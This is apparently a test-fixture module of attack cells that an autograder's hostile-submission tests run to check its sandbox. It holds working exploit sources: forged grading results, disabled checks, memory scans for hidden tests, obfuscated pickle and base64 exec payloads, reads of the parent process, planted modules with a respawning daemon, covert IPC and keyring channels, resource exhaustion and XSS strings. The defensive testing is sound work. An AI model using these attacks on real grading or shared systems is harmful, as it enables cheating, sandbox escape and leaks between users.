"""Attack cells for tests/test_hostile.py: short sources that a hostile submission puts in its notebook.

Markers the test looks for in the executed notebook: ``LEAK`` (something the sandbox must not show was
seen), ``SCAN DONE`` (a scan ran and found its positive control, so "no LEAK" means something), and the
per-attack words named next to each source. Strings a scan searches for are built from two halves at run
time, so the scan never finds its own source.
"""
from __future__ import annotations

import base64
import codecs
import pickle

# -- class 1: scores forged from the student's process -------------------------------------------------
# (a) the result pipe, found in /proc/self/fd; the job (probe ids) found with gc; every cell "passed"
FORGE_PIPE = """\
import gc, os
from autograder.sandbox.codec import encode_frame, pack, unpack
def _sig(p):
    try:
        return {{'output': pack(unpack(p['inputs'], namespace=globals())['args'][0] * 0)}}
    except Exception:
        return {{'output': pack(0.5)}}
_job = next((o for o in gc.get_objects() if isinstance(o, dict) and isinstance(o.get('cells'), list) and 'limits' in o), None)
_cells = [c['index'] for c in _job['cells']] if _job else list(range(40))
_probes = [p for c in (_job['cells'] if _job else []) for p in c.get('probes', [])] or [{{'id': i}} for i in range(300)]
_ok = [{{'output_type': 'stream', 'name': 'stdout', 'text': 'checks passed\\n'}}{extra}]
_frames = [encode_frame({{'op': 'cell', 'index': i, 'execution_count': 1, 'outputs': _ok}}) for i in _cells]
_frames += [encode_frame({{'op': 'probe', 'id': p['id'], 'signature': _sig(p)}}) for p in _probes]
_frames.append(encode_frame({{'op': 'done'}}))
for _fd in range(3, 64):
    try:
        if os.readlink(f'/proc/self/fd/{{_fd}}').startswith('pipe:'):
            for _f in _frames:
                while _f:
                    _f = _f[os.write(_fd, _f):]
    except OSError:
        pass
os._exit(0)
"""
PARTIAL_CREDIT = ", {'output_type': 'execute_result', 'execution_count': 1, 'metadata': {}, 'data': {'text/plain': '15'}}"


def forge_pipe(partial_credit: bool = False) -> str:
    return FORGE_PIPE.format(extra=PARTIAL_CREDIT if partial_credit else "")


# (b) builtins through a bound method's __self__; tracebacks silenced; every check a no-op
SILENCE_CHECKS = """
_B = getattr(print, '__se' + 'lf__')
_ip = getattr(_B, 'get_ip' + 'ython')()
_quiet = lambda *a, **k: None
_ip._showtraceback = _quiet
_ip.showtraceback = _quiet
_set = getattr(_B, 'set' + 'attr')
import dlcourse, dlcourse.checks
for _n in [n for n in dir(dlcourse.checks) if n.startswith('check_')]:
    _set(dlcourse.checks, _n, _quiet)
    _set(dlcourse, _n, _quiet)
    getattr(_ip, 'user' + '_ns')[_n] = _quiet
"""

# (c) the sandbox's own probe code replaced through sys.modules: signatures of the right shape, wrong values
PATCH_PROBES = """
import sys, types
from autograder.sandbox.codec import pack, unpack
def _forged(namespace, probe, seed):
    try:
        first = unpack(probe['inputs'], namespace=namespace)['args'][0]
        return {'output': pack(first * 0)}
    except Exception:
        return {'output': 0.5}
def _answer(shell, probes, emit, current=None, timer=None):
    for p in probes:
        emit({'op': 'probe', 'id': p['id'], 'signature': _forged(shell.user_ns, p, 0)})
sys.modules['autograder.sandbox.probes'].observe = _forged
_patched = ['observe']
for _m in list(sys.modules.values()):
    if isinstance(getattr(_m, '__dict__', {}).get('answer_probes'), types.FunctionType):
        _m.answer_probes = _answer
        _patched.append(_m.__name__ + '.answer_probes')
print('PATCHED', _patched)
"""

# -- class 2: reference outputs or hidden tests in the sandbox's memory ------------------------------------
# hidden-test-only lines of lab 01 (solutions/lab01_tensors, between BEGIN/END HIDDEN TESTS), as halves
HIDDEN_PAIRS = [("### BEGIN ", "HIDDEN TESTS"), ("def _ref_me", "ans(X, y, K):"), ("def _ref_a", "cc(logits, y):"),
                ("_g = torch.Generator().manual_se", "ed(404)")]
CONTROL_PAIR = ("row sums of ", "the result")  # in a visible test: a scan that works finds it

GC_SCAN = """
import gc
_pairs = {pairs!r}
_needles = [a + b for a, b in _pairs]
_control = {control!r}[0] + {control!r}[1]
_keys = {{'signature', 'output', 'args_after', 'grads', 'mode'}}
_seen, _leaks = {{'probes': 0, 'control': 0, 'strings': 0}}, set()
for _o in gc.get_objects():
    if isinstance(_o, dict):
        if {{'name', 'kind', 'seed', 'id'}} <= _o.keys():
            _seen['probes'] += 1
            if _keys & _o.keys():
                _leaks.add('a probe carries ' + ','.join(sorted(_keys & _o.keys())))
        if _o.get('op') == 'reference_probe':
            _leaks.add('a reference frame')
        _vals = list(_o.values())
    elif isinstance(_o, (list, tuple)):
        _vals = _o
    else:
        continue
    for _v in _vals:
        if type(_v) is str and len(_v) > 12:
            _seen['strings'] += 1
            _seen['control'] += _control in _v and _v != _control
            _leaks.update(n for n in _needles if n in _v and _v != n)
print('LE' + 'AK' if _leaks else 'clean', sorted(_leaks)[:4], _seen)
print('SCAN DONE' if _seen['probes'] and _seen['control'] else 'SCAN FAILED')
"""

MEM_SCAN = """
import ctypes, os, time
_t0 = time.monotonic()
_pairs = [(a.encode(), b.encode()) for a, b in {pairs!r}]
_control = tuple(x.encode() for x in {control!r})
_hits, _found = {{'control': 0}}, set()
def _scan(buf):
    for k, (a, b) in enumerate(_pairs + [_control]):
        i = buf.find(a)
        while i != -1:
            if buf[i + len(a):i + len(a) + len(b)] == b:
                if k == len(_pairs):
                    _hits['control'] += 1
                else:
                    _found.add(k)
                break
            i = buf.find(a, i + 1)
try:
    _mem, _how = open('/proc/self/mem', 'rb', buffering=0), '/proc/self/mem'
except PermissionError:  # a non-dumpable process: its /proc files are root's; it may make itself dumpable again
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
    _mem, _how = open('/proc/self/mem', 'rb', buffering=0), '/proc/self/mem after PR_SET_DUMPABLE'
with open('/proc/self/maps') as _f:
    _regions = [line.split() for line in _f]
_total = 0
with _mem:
    for _r in _regions:
        _lo, _hi = (int(x, 16) for x in _r[0].split('-'))
        _path = _r[5] if len(_r) > 5 else ''
        if 'r' not in _r[1] or (_path and _path not in ('[heap]', '[stack]')):
            continue
        for _at in range(_lo, _hi, 2**24):
            try:
                _mem.seek(_at)
                _buf = _mem.read(min(2**24 + 256, _hi - _at))
            except (OSError, ValueError, OverflowError):
                break
            _total += len(_buf)
            _scan(_buf)
print('LE' + 'AK' if _found else 'clean', sorted(_found), _hits, f'{{_total >> 20}} MiB read through {{_how}} in {{time.monotonic() - _t0:.1f}}s')
print('SCAN DONE' if _hits['control'] else 'SCAN FAILED')
"""


def gc_scan(pairs=HIDDEN_PAIRS, control=CONTROL_PAIR) -> str:
    return GC_SCAN.format(pairs=list(pairs), control=control)


def mem_scan(pairs=HIDDEN_PAIRS, control=CONTROL_PAIR) -> str:
    return MEM_SCAN.format(pairs=list(pairs), control=control)


# -- class 3: code the static check cannot read ------------------------------------------------------------
PATCH_CHECKS = """
import dlcourse, dlcourse.checks
_noop = lambda *a, **k: None
for _n in ('check_close', 'check_true'):
    setattr(dlcourse, _n, _noop)
    setattr(dlcourse.checks, _n, _noop)
    __import__('builtins').get_ipython().user_ns[_n] = _noop
"""


class _Exec:
    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def exec_base64() -> str:
    blob = base64.b64encode(PATCH_CHECKS.encode()).decode()
    return f"import base64\nexec(base64.b64decode({blob!r}).decode())\n"


def exec_rot13() -> str:
    blob = codecs.encode(PATCH_CHECKS, "rot13")
    return f"import codecs\n_run = getattr(getattr(print, '__se' + 'lf__'), 'ex' + 'ec')\n_run(codecs.decode({blob!r}, 'rot13'))\n"


def pickle_torch() -> str:
    payload = pickle.dumps(_Exec(PATCH_CHECKS), protocol=2)
    return f"import torch\ntorch.serialization.pickle.loads({payload!r})\n"


def pickle_computed() -> str:
    payload = pickle.dumps(_Exec(PATCH_CHECKS), protocol=2)
    return f"getattr(__import__('pic' + 'kle'), 'lo' + 'ads')({payload!r})\n"


# -- class 4: the zygote (the process every student's kernel is forked from) ------------------------------
ZYGOTE_PROC = """
import os, ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: this process's own /proc files are its own again
_pp = os.getppid()
_res = {}
for _what in ('mem', 'environ', 'maps', 'fd', 'cwd'):
    _p = f'/proc/{_pp}/{_what}'
    try:
        if _what == 'fd':
            _res[_what] = 'LE' + 'AK ' + str(os.listdir(_p))
        elif _what == 'cwd':
            _res[_what] = 'LE' + 'AK ' + os.readlink(_p)
        else:
            with open(_p, 'rb') as _f:
                _res[_what] = 'LE' + 'AK ' + repr(_f.read(64))
    except OSError as e:
        _res[_what] = 'denied (' + type(e).__name__ + ')'
_res['ptrace'] = 'LE' + 'AK attached' if _libc.ptrace(16, _pp, 0, 0) == 0 else 'denied (' + os.strerror(ctypes.get_errno()) + ')'
print('zygote', _pp, _res)
"""

# -- class 6: what one student leaves in /tmp, /dev/shm and SysV IPC for the next --------------------------
EVIL = "raise SystemExit('a planted module ran')\\n"
PLANT_FILES = f"""
import os, time, errno, signal
signal.setitimer(signal.ITIMER_REAL, 0)  # filling /tmp may be slow on a loaded machine: no cell timer
_evil = "{EVIL}"
_done, _refused = [], []
def _plant(path, text=_evil):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'w') as f:
            f.write(text)
        _done.append(path)
    except OSError as e:
        _refused.append(f'{{path}} ({{e.strerror}})')
for _p in ('/tmp/secrets/__init__.py', '/tmp/secrets.py', '/tmp/sitecustomize.py', '/tmp/dlcourse.py', '/tmp/torch.py',
           '/tmp/locked/deeper/numpy.py', '/tmp/.ipython/profile_default/startup/00.py', '/tmp/matplotlibrc', '/dev/shm/planted'):
    _plant(_p)
_plant('/tmp/answers.txt', 'ANSWERS FROM AN EARLIER STUDENT')
for _d in ('/tmp/locked/deeper', '/tmp/locked', '/tmp/secrets'):
    os.chmod(_d, 0o555)
if os.fork() == 0:  # a daemon that plants again once the grader has cleaned up
    os.setsid()
    if os.fork() == 0:
        for _ in range(60):
            time.sleep(0.5)
            try:
                with open('/tmp/secrets.py', 'w') as _f:
                    _f.write(_evil)
            except OSError:
                pass
    os._exit(0)
_full = False
for _k in range(20):
    try:
        with open(f'/tmp/fill{{_k}}', 'wb') as _f:
            for _ in range(60):
                _f.write(bytes(2**20))
    except OSError as e:
        _full = e.errno == errno.ENOSPC
        if _full:
            break
print('PLANTED', len(_done), 'files; refused:', _refused, 'TMP FULL' if _full else 'tmp not full')
"""

# channels that outlive a student: a POSIX message queue (the zygote's IPC namespace) and a key in the
# user keyring (the zygote's uid)
PLANT_CHANNELS = """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_q = _libc.mq_open(b'/dlc_leak', os.O_CREAT | os.O_RDWR, 0o666, None)
_sent = _q >= 0 and _libc.mq_send(_q, b'MQ SECRET', 9, 0) == 0
_key = _libc.syscall(248, b'user', b'dlc_leak', b'KEY SECRET', 10, ctypes.c_int(-4))  # add_key(..., KEY_SPEC_USER_KEYRING)
print('PLANTED CHANNELS', 'mq' if _sent else 'no mq', 'key' if _key > 0 else 'no key')
"""

PLANT_IPC = PLANT_FILES + """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_shm = _libc.shmget(0x5EC2E7, 4096, 0o1666)  # IPC_CREAT | 0666
_msg = _libc.msgget(0x5EC2E8, 0o1666)
print('PLANTED IPC', _shm, _msg)
"""

COLLUDE = """
import os, sys, ctypes
_mine = os.getcwd()
_found = []
_course = [b for b in os.environ.get('DLCOURSE_BINDS', '').split(os.pathsep) if b]  # read-only course folders (a repo under /tmp)
def _ours(p):
    return p.startswith(_mine) or any(b == p or b.startswith(p + '/') or p.startswith(b + '/') for b in _course)
for _top in ('/tmp', '/dev/shm'):
    for _root, _dirs, _files in os.walk(_top):
        _dirs[:] = [d for d in _dirs if not any(os.path.join(_root, d).startswith(b + '/') or os.path.join(_root, d) == b for b in _course)]
        _found += [os.path.join(_root, f) for f in _files + _dirs if not _ours(os.path.join(_root, f))]
for _p in ('/tmp/answers.txt', '/tmp/secrets.py', '/dev/shm/planted'):
    try:
        with open(_p) as _f:
            _found.append(_p + ': ' + _f.read(40))
    except OSError:
        pass
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
if _libc.shmget(0x5EC2E7, 0, 0o666) != -1 or _libc.msgget(0x5EC2E8, 0o666) != -1:
    _found.append('a SysV object of an earlier student')
import secrets
if not secrets.__file__.startswith((sys.prefix, sys.base_prefix)):
    _found.append('secrets from ' + secrets.__file__)
_st = os.statvfs('/tmp')
if _st.f_bavail * _st.f_frsize < 400 * 2**20:
    _found.append('/tmp is full')
print('LE' + 'AK' if _found else 'NOTHING LEFT', _found[:5])
_channels = []
_q = _libc.mq_open(b'/dlc_leak', os.O_RDWR | os.O_NONBLOCK, 0, None)
if _q >= 0:
    _buf = ctypes.create_string_buffer(8192)
    _n = _libc.mq_receive(_q, _buf, 8192, None)
    _channels.append('mq: ' + repr(_buf.raw[:max(_n, 0)]))
_id = _libc.syscall(250, 10, ctypes.c_int(-4), b'user', b'dlc_leak', 0)  # KEYCTL_SEARCH in the user keyring
if _id > 0:
    _b = ctypes.create_string_buffer(100)
    _n = _libc.syscall(250, 11, ctypes.c_long(_id), _b, 100)  # KEYCTL_READ
    _channels.append('key: ' + repr(_b.raw[:max(_n, 0)]))
print('CHANNEL' if _channels else 'NO CHANNEL', _channels)
"""

# -- class 7: limits ------------------------------------------------------------------------------------------
HOGS = """
import os, select, signal, time
signal.setitimer(signal.ITIMER_REAL, 0)  # no cell timer: on a loaded machine the memory limit, not the clock, decides
_ready, _told = os.pipe()
_kids = []
for _k in range({n}):
    _pid = os.fork()
    if _pid == 0:  # a child: hold 1 GiB until the others hold theirs too (the parent then kills it)
        _hold = b'x' * 2**30
        os.write(_told, b'!')
        time.sleep(120)
        os._exit(0)
    _kids.append(_pid)
os.close(_told)
_got, _early = 0, {{}}
while _got < {n} and not _early:
    if select.select([_ready], [], [], 0.1)[0]:
        _got += len(os.read(_ready, 16))
    for _p in _kids:
        if _p not in _early and os.waitpid(_p, os.WNOHANG)[0]:
            _early[_p] = 'killed'
for _p in _kids:
    if _p not in _early:
        os.kill(_p, signal.SIGKILL)
        os.waitpid(_p, 0)
print('children holding 1 GiB at once:', _got, 'died on the way:', len(_early))
if _early:
    raise MemoryError('a child holding 1 GiB was killed (out of memory)')
print('HELD {n} GiB')
"""


def hogs(n: int) -> str:
    return HOGS.format(n=n)


HUGE_FRAMES = """
import os
from autograder.sandbox.codec import encode_frame
_frame = encode_frame({'op': 'noise', 'pad': 'x' * (15 * 2**20)})
for _fd in range(3, 64):
    try:
        if os.readlink(f'/proc/self/fd/{_fd}').startswith('pipe:'):
            for _ in range(14):  # about 210 MiB
                _f = _frame
                while _f:
                    _f = _f[os.write(_fd, _f):]
    except OSError:
        pass
print('SENT 210 MiB')
"""

# -- class 8: feedback pages ---------------------------------------------------------------------------------
XSS_MARKDOWN = "XSS-MARKER <script>alert('md')</script> <img src=x onerror=alert('md')> <a href=\"javascript:alert(1)\" onclick=\"alert(2)\">x</a>"
XSS_OUTPUT = """
from IPython.display import HTML, Markdown, display
display(HTML("XSS-OUTPUT <script>alert('out')</script><img src=x onerror=alert('out')><svg onload=alert(3)></svg>"))
display(Markdown("<img src=y onerror=alert('md-out')>"))
print("<script>alert('stdout')</script>")
"""
